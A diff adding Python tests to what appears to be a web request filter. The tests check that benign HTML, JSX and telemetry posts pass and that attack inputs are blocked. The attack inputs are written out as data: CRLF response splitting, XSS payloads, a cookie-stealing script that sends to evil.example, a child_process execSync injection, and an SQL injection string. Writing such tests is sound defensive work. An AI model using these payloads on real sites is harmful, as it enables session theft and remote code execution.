@@ -105,3 +105,66 @@ def test_urls_with_empty_parameters_and_opaque_tokens_pass():
     assert passes(Request.make("GET", f"/login?from={url}", XHR))
     assert passes(Request.make("POST", "/s", form, "v_7e0e=u4Ka+Z%24b14-lnNZOJuCW7TmthFNIKP5o%249PR+p%24xKFObZOeNaMRTmeHaHiaplrXWB+-"))
     assert inspect(Request.make("GET", "/?q=1'%20%26%26%201%3D1--")).blocked
+
+
+def test_html_documents_in_form_fields_and_json_values_pass():
+    """Code playgrounds and page builders post whole HTML documents: blank lines between their tags are
+    no response splitting (a second response starts after an empty line that no markup precedes)."""
+    doc = "<!DOCTYPE html>\r\n<html lang=\"en\">\r\n\r\n<head>\r\n  <title>Demo</title>\r\n</head>\r\n\r\n<body>\r\n  <div id=\"root\"></div>\r\n</body>\r\n</html>\r\n"
+    form = {**XHR, "Content-Type": "application/x-www-form-urlencoded", "Sec-Fetch-Mode": "navigate"}
+    from urllib.parse import quote_plus
+
+    assert passes(Request.make("POST", "/run?file=demo.tsx", form, "project%5Bfiles%5D%5Bindex.html%5D=" + quote_plus(doc)))
+    assert passes(Request.make("POST", "/store", XHR, json.dumps({"data": {"files": [{"content": doc.replace("\r\n", "\n")}]}})))
+    # splitting: a value ending the headers and starting a body of its own
+    assert inspect(Request.make("POST", "/r", form, "lang=en%0D%0A%0D%0A%3Chtml%3E%3Cbody%3Epwned")).blocked
+    assert inspect(Request.make("POST", "/r", XHR, json.dumps({"lang": "en\r\n\r\n<html><body>pwned"}))).blocked
+
+
+def test_text_posted_as_a_form_body_by_a_script_passes():
+    """A page's script posting text with a form Content-Type: the parser splits the text at `&` and
+    `=`, so "names" are multi-line fragments of it."""
+    form = {**XHR, "Content-Type": "application/x-www-form-urlencoded;charset=UTF-8"}
+    text = "Items per page\r\n  default: 20\r\n  max: 100\r\nSort order\r\n  default=asc"
+    assert passes(Request.make("POST", "/fcf.html?a=1", form, text))
+    # CR/LF in a parameter name of a URL, or in the path
+    assert inspect(Request.make("GET", "/get?parameter%0d%0a=test", {"User-Agent": UA})).blocked
+    assert inspect(Request.make("GET", "/foo%0abar", {"User-Agent": UA})).blocked
+
+
+def test_javascript_function_sources_in_telemetry_pass():
+    # a page's own script logging the source of its handlers (fn.toString()) with an event
+    fn = 'function(e){try{render(document.querySelector("div[".concat(k,"]")))}catch(err){}}'
+    logs = {"__logs__": [{"name": "handler", "value": fn}, {"name": "nav", "value": "function(){return window.location.href}"}]}
+    assert passes(Request.make("POST", "/logstores/track", XHR, json.dumps(logs)))
+    # the same field carrying code that runs: a quote breakout, an invoked function literal
+    assert inspect(Request.make("POST", "/logstores/track", XHR, json.dumps({"value": "';alert(document.cookie)//"}))).blocked
+    iife = "(function(){document.location='//evil.example/?'+document.cookie})()"
+    assert inspect(Request.make("POST", "/logstores/track", XHR, json.dumps({"value": iife}))).blocked
+
+
+def test_helper_function_sources_posted_as_form_fields_pass():
+    form = {**XHR, "Content-Type": "application/x-www-form-urlencoded"}
+    from urllib.parse import urlencode
+
+    helpers = {"unique": "function(){var r=[],s={};for(var i=0;i<this.length;i++){if(!s[this[i]]){r.push(this[i]);s[this[i]]=1}}return r}",
+               "clone": "function () { return this.slice(0); }"}  # fmt: skip
+    assert passes(Request.make("POST", "/fp.html?a=1", form, urlencode(helpers)))
+    attack = urlencode({"unique": "function(){return require('child_process').execSync('id')}()"})
+    assert inspect(Request.make("POST", "/fp.html?a=1", form, attack)).blocked
+
+
+def test_jsx_in_code_editor_saves_passes():
+    jsx = ("const App = () => (\n  <Dropdown menu={{ items }}>\n    <a onClick={(e) => e.preventDefault()}>\n"
+           "      <Space>Hover me</Space>\n    </a>\n  </Dropdown>\n);\nexport default App;\n")  # fmt: skip
+    assert passes(Request.make("POST", "/editor/process", {**XHR, "Sec-Fetch-Mode": "same-origin"}, json.dumps([{"textInput": jsx}])))
+    for attack in ("<img src=x onerror=alert(1)>", "<a onClick={alert(document.cookie)}>x</a>"):
+        assert inspect(Request.make("POST", "/editor/process", XHR, json.dumps([{"textInput": attack}]))).blocked
+
+
+def test_session_replay_tag_names_and_inert_link_targets_pass():
+    replay = {"Evts": [{"Kind": 2, "Args": [12, "<META", "<IFRAME", "<DIV", {"href": "javascript:void 0;"}]}]}
+    assert passes(Request.make("POST", "/rec/bundle", {**XHR, "Content-Type": "text/plain"}, json.dumps(replay)))
+    for attack in ("<iframe src=javascript:alert(1)>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+                   "javascript:void 0;alert(1)"):  # fmt: skip
+        assert inspect(Request.make("POST", "/rec/bundle", XHR, json.dumps({"Args": [attack]}))).blocked
